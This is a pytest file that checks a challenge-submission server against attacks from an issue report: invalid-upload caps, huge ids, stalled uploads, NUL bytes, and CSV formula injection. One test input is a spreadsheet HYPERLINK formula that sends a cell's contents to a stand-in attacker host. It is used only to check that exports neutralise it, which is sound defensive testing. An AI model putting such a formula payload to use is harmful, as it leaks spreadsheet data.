"""Issue #16: what an attacker and a careless host found, each attack replayed against a running
`zerowaste server serve` on SQLite and on PostgreSQL (ids overflow differently on the two)."""

import csv
import datetime as dt
import io
import logging
import os
import socket
import time

import httpx
import pytest
from click.testing import CliRunner
from sqlalchemy import select

from zerowaste.submission.server import service, worker
from zerowaste.submission.server.cli import server
from zerowaste.submission.server.db import make_engine, read_session, upgrade
from zerowaste.submission.server.models import FAILED, QUEUED, SCORED, Event, Submission
from zerowaste.submission.server.worker import Outcome, WorkerConfig

HUGE_IDS = [2**31, 2**63 - 1, 2**63, 2**64 + 5, 10**30, 0, -1, -(2**63) - 1]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def auth(token):
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def live(request, tmp_path_factory, gt_dir, kit):
    """A server per database kind: val allows 2 invalid submissions a day; uploads stall after 10 s
    (long enough that a busy machine cannot time the stalled uploads out before the test checks the limit)."""
    tmp = tmp_path_factory.mktemp(f"hard-{request.param}")
    if request.param == "sqlite":
        db_url = f"sqlite:///{tmp / 'server.db'}"
    else:
        db_url = kit.create_pg_database(request.getfixturevalue("pg_cluster"))
    tokens = kit.setup_challenge(db_url, ("alpha", "beta", "gamma"), per_day=20, invalid_per_day=2)
    srv = kit.start_server(db_url, tmp / "store", gt_dir, tmp / "server.log", "--workers", "1", "--poll", "0.2",
                           "--upload-timeout", "10", "--uploads-per-team", "2")
    engine = make_engine(db_url)
    yield {"url": srv.url, "tokens": tokens, "engine": engine, "store": tmp / "store", "server": srv, "db": db_url}
    engine.dispose()
    srv.stop()


# ------------------------------------------------------------------------------------------ 1. invalid uploads


def test_invalid_uploads_are_capped_per_day_and_their_zips_deleted(live, sub_zips, kit):
    url, tok, subs_dir = live["url"], live["tokens"]["gamma"], live["store"] / "subs"
    ids = []
    for _ in range(2):
        r = kit.upload(url, tok, sub_zips["bad"])
        assert r.status_code == 201, r.text
        ids.append(r.json()["id"])
        sub = kit.wait_status(url, tok, ids[-1])
        assert sub["status"] == "invalid" and sub["problems"]  # the report is kept...
        with read_session(live["engine"]) as s:
            stored = s.get(Submission, ids[-1]).file_name
        assert not (subs_dir / stored).exists()  # ...the zip is not
    val = {q["phase"]: q for q in httpx.get(f"{url}/api/quota", headers=auth(tok)).json()}["val"]
    assert (val["invalid_today"], val["invalid_per_day"], val["used_today"], val["remaining"]) == (2, 2, 0, 0)
    r = kit.upload(url, tok, sub_zips["good"])
    assert r.status_code == 429 and "too many invalid submissions today" in r.json()["detail"]
    with httpx.Client(base_url=url) as c:
        c.post("/login", data={"token": tok})
        assert '<td class="invalid">2 of 2</td>' in c.get("/team").text
    # The host can lift the cap; an invalid submission cannot be re-scored (its zip is gone): 409, not a hang.
    service.update_phase(live["engine"], "val", invalid_per_day=None)
    assert kit.eventually(lambda: kit.upload(url, tok, sub_zips["good"]).status_code == 201)
    r = httpx.post(f"{url}/api/admin/submissions/{ids[0]}/rescore", headers=auth(live["tokens"]["admin"]))
    assert r.status_code == 409 and "zip was deleted" in r.json()["detail"]


# ------------------------------------------------------------------------------------------ 2. CSV formula injection


def test_csv_exports_neutralise_formulas(live, sub_zips, kit, tmp_path):
    url, tok = live["url"], live["tokens"]
    sid = kit.upload(url, tok["beta"], sub_zips["good"], method_name=FORMULA, filename="@SUM(A1).zip").json()["id"]
    assert kit.wait_status(url, tok["beta"], sid)["status"] == "scored"
    over_http = httpx.get(f"{url}/api/admin/export/submissions", headers=auth(tok["admin"]))
    assert over_http.headers["content-type"].startswith("text/csv")
    board = kit.eventually(lambda: (t := httpx.get(f"{url}/api/admin/export/leaderboard/val",
                                                   headers=auth(tok["admin"])).text) and "HYPERLINK" in t and t)
    out = tmp_path / "subs.csv"
    res = CliRunner().invoke(server, ["admin", "--db", live["db"], "export", "submissions", "--out", str(out)])
    assert res.exit_code == 0, res.output
    for text in (over_http.text, board, out.read_text()):
        rows = list(csv.DictReader(io.StringIO(text)))
        cells = [v for row in rows for v in row.values() if v]
        assert f"'{FORMULA}" in cells  # shown as text by a spreadsheet
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in cells), cells
        assert not any(v.startswith("-") and not v.lstrip("-").replace(".", "").replace("e", "").isdigit()
                       for v in cells)
    assert "'@SUM(A1).zip" in out.read_text()
    # JSON exports are data, not spreadsheets: the text is kept as it is.
    as_json = httpx.get(f"{url}/api/admin/export/submissions", params={"format": "json"}, headers=auth(tok["admin"]))
    assert any(r["method_name"] == FORMULA for r in as_json.json())


# ------------------------------------------------------------------------------------------ 3. huge ids


def test_ids_out_of_range_answer_404_everywhere(live, kit):
    url, tok = live["url"], live["tokens"]
    with httpx.Client(base_url=url) as page:
        page.post("/login", data={"token": tok["alpha"]})
        for sid in HUGE_IDS:
            for method, path, who in [("GET", f"/api/submissions/{sid}", "alpha"),
                                      ("GET", f"/api/submissions/{sid}", "admin"),
                                      ("POST", f"/api/submissions/{sid}/select", "alpha"),
                                      ("POST", f"/api/admin/submissions/{sid}/rescore", "admin"),
                                      ("POST", f"/api/admin/submissions/{sid}/disqualify", "admin")]:
                r = httpx.request(method, url + path, headers=auth(tok[who]))
                assert r.status_code == 404 and "no submission" in r.json()["detail"], (method, path, r.text)
            r = page.post(f"/team/select/{sid}")
            assert r.status_code == 404 and "no submission" in r.text
    for args in (["rescore", str(2**63)], ["disqualify", str(10**30)]):
        res = CliRunner().invoke(server, ["admin", "--db", live["db"], *args])
        assert res.exit_code == 1 and "no submission" in res.output and "Traceback" not in res.output


# ------------------------------------------------------------------------------------------ 4. stalled uploads


def open_fds(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


def read_answer(sock: socket.socket, timeout: float = 120) -> bytes:
    """Everything the server sends until it closes the connection."""
    sock.settimeout(timeout)
    data = b""
    while chunk := sock.recv(65536):
        data += chunk
    return data


def test_stalled_uploads_time_out_and_are_limited_per_team(live, sub_zips, kit):
    url, tok, tmp_dir = live["url"], live["tokens"]["alpha"], live["store"] / "tmp"
    pid = live["server"].proc.pid
    # Warm up first: the worker's first scoring job starts its fork server (pipes that stay open), which
    # must not count as descriptors held by stalled uploads; wait until that job is scored.
    warm = kit.upload(url, live["tokens"]["beta"], sub_zips["good"])
    assert warm.status_code == 201
    done = lambda: httpx.get(f"{url}/api/submissions/{warm.json()['id']}",  # noqa: E731
                             headers=auth(live["tokens"]["beta"])).json()["status"] == "scored"
    assert kit.eventually(done, timeout=120)
    fds_before = open_fds(pid)
    stalled = [kit.partial_upload(url, tok, "val", declared=500_000, sent=1000) for _ in range(2)]
    assert kit.eventually(lambda: len(list(tmp_dir.glob("*.part"))) == 2, timeout=10)
    # A third upload of the same team while two are in progress: refused at once, nothing stored.
    third = kit.upload(url, tok, sub_zips["good"])
    assert third.status_code == 429 and "in progress" in third.json()["detail"]
    # Another team is not affected.
    assert kit.upload(url, live["tokens"]["beta"], sub_zips["good"]).status_code == 201
    answers = [read_answer(s) for s in stalled]  # the server ends them (a stall, not our socket timeout)
    for s in stalled:
        s.close()
    assert all(a.startswith(b"HTTP/1.1 408") and b"stalled" in a for a in answers), answers
    assert list(tmp_dir.glob("*.part")) == []  # partial files deleted
    assert kit.eventually(lambda: open_fds(pid) <= fds_before + 2, timeout=10), (open_fds(pid), fds_before)
    assert kit.upload(url, tok, sub_zips["good"]).status_code == 201  # the slots are free again


# ------------------------------------------------------------------------------------------ 6. silent give-up


def queue_one(engine, store_dir, zip_path, team="solo") -> int:
    """One queued submission of a new team in phase val (no server involved)."""
    from zerowaste.submission.server.store import SubmissionStore

    if "val" not in [p.name for p in service.list_phases(engine)]:
        service.create_phase(engine, "val", per_day=None)
    team_id = service.create_team(engine, team).id
    with SubmissionStore(store_dir).upload(10**8) as up:
        up.write(zip_path.read_bytes())
        return service.insert_submission(engine, team_id, "val", method_name="m", original_filename="s.zip",
                                         size_bytes=up.size, publish=up.publish)["id"]


def test_give_up_is_logged_written_and_listed(db_url, sub_zips, server_factory, tmp_path, caplog):
    engine = make_engine(db_url)
    upgrade(engine)
    sid = queue_one(engine, tmp_path / "store", sub_zips["good"], team="gamma")
    admin = service.issue_token(engine, admin=True)
    cfg = WorkerConfig(lease_seconds=0.05, max_attempts=2)
    for who in ("host:1:1", "host:1:2"):  # two workers die holding the lease
        assert worker.claim(engine, who, cfg).submission_id == sid
        time.sleep(0.1)
    with caplog.at_level(logging.ERROR, logger="zerowaste.server.worker"):
        assert worker.claim(engine, "w3", cfg) is None  # nothing left to claim: it was given up on
    assert any(f"gave up on submission {sid}" in r.getMessage() and r.levelno == logging.ERROR for r in caplog.records)
    with read_session(engine) as s:
        events = s.scalars(select(Event).where(Event.submission_id == sid)).all()
        assert [e.action for e in events] == ["give-up"] and "host:1:2" in events[0].detail
        assert s.get(Submission, sid).status == FAILED
    srv = server_factory(db_url, "--workers", "0", store=tmp_path / "store")
    queue = httpx.get(f"{srv.url}/api/admin/queue", headers=auth(admin)).json()
    assert queue["failed"] == 1 and queue["queued"] == 0
    (job,) = queue["failed_jobs"]
    assert (job["id"], job["team"], job["attempts"]) == (sid, "gamma", 2) and "2 attempts" in job["error"]
    engine.dispose()


# ------------------------------------------------------------------------------------------ 7. re-scoring


def test_rescoring_keeps_the_published_score_until_the_new_one_lands(db_url, sub_zips, tmp_path):
    engine = make_engine(db_url)
    upgrade(engine)
    sid = queue_one(engine, tmp_path / "store", sub_zips["good"])
    cfg = WorkerConfig()
    job = worker.claim(engine, "w", cfg)
    iou = {"mIoU": 0.5, "Acc": 0.6, "IoU": {}}
    assert worker.finish(engine, job, Outcome(SCORED, result={"uda": iou, "source_only": iou}))
    cache = service.LeaderboardCache()

    def board():
        return [(r["team"], r["mIoU"]) for r in cache.get(engine, "val", "uda", host=True)["rows"]]

    assert board() == [("solo", 0.5)]
    service.rescore(engine, sid)
    with read_session(engine) as s:
        assert s.get(Submission, sid).status == QUEUED
    assert board() == [("solo", 0.5)]  # still on the board while queued...
    job = worker.claim(engine, "w", cfg)
    assert board() == [("solo", 0.5)]  # ...and while running
    better = {"mIoU": 0.7, "Acc": 0.8, "IoU": {}}
    assert worker.finish(engine, job, Outcome(SCORED, result={"uda": better, "source_only": better}))
    assert board() == [("solo", 0.7)]  # the new score replaces it
    engine.dispose()


# ------------------------------------------------------------------------------------------ 8. past closing dates


def test_phase_create_warns_when_closes_is_in_the_past(tmp_path):
    db = ["admin", "--db", f"sqlite:///{tmp_path / 'a.db'}"]
    past = CliRunner().invoke(server, [*db, "phase", "create", "test", "--closes", "2020-01-01T00:00", "--hidden"])
    assert past.exit_code == 0 and "warning: --closes 2020-01-01T00:00:00+00:00 is in the past" in past.stderr
    soon = (dt.datetime.now(dt.UTC) + dt.timedelta(days=30)).strftime("%Y-%m-%dT%H:%M")
    future = CliRunner().invoke(server, [*db, "phase", "create", "val", "--closes", soon])
    assert future.exit_code == 0 and "warning" not in future.stderr
    upd = CliRunner().invoke(server, [*db, "phase", "update", "val", "--closes", "2021-06-01"])
    assert upd.exit_code == 0 and "in the past" in upd.stderr


def test_documented_closing_dates_are_not_in_the_past():
    """docs/server.md's commands are copied as printed: a fixed --closes date there must not have passed."""
    import re
    from pathlib import Path

    doc = (Path(__file__).parents[2] / "docs" / "server.md").read_text()
    dates = re.findall(r"--closes[ =]\"?([0-9][0-9T:-]+)", doc)
    now = dt.datetime.now(dt.UTC)
    past = [d for d in dates if dt.datetime.fromisoformat(d).replace(tzinfo=dt.UTC) <= now]
    assert not past, f"docs/server.md creates phases already closed: {past}"
    assert "--closes" in doc


def test_start_up_deletes_zips_of_invalid_submissions_kept_by_an_older_server(tmp_path, sub_zips):
    from zerowaste.submission.server.context import Context, Settings, startup

    db_url = f"sqlite:///{tmp_path / 'server.db'}"
    engine = make_engine(db_url)
    upgrade(engine)
    kept = queue_one(engine, tmp_path / "store", sub_zips["bad"])
    queued = queue_one(engine, tmp_path / "store", sub_zips["good"], team="other")
    with read_session(engine) as s:
        sub = s.get(Submission, kept)
        sub.status = "invalid"  # as an older server left it: report stored, zip kept
        path = tmp_path / "store" / "subs" / sub.file_name
        waiting = tmp_path / "store" / "subs" / s.get(Submission, queued).file_name
    assert path.is_file() and waiting.is_file()
    startup(Context(Settings(db_url, tmp_path / "store", "gt/")))
    assert not path.exists() and waiting.is_file()  # only the invalid one's zip goes
    with read_session(engine) as s:
        assert s.get(Submission, kept).status == "invalid"  # the report stays
    engine.dispose()


def test_free_text_with_nul_is_stored_without_it(db_url, sub_zips, tmp_path):
    """schemathesis found a 500 on PostgreSQL: ``POST .../disqualify?reason=%00...`` (text cannot hold NUL)."""
    engine = make_engine(db_url)
    upgrade(engine)
    sid = queue_one(engine, tmp_path / "store", sub_zips["good"], team="nul")
    service.disqualify(engine, sid, "a\x00b")
    with read_session(engine) as s:
        (event,) = s.scalars(select(Event).where(Event.submission_id == sid, Event.action == "disqualify")).all()
        assert event.detail == "ab"
    engine.dispose()

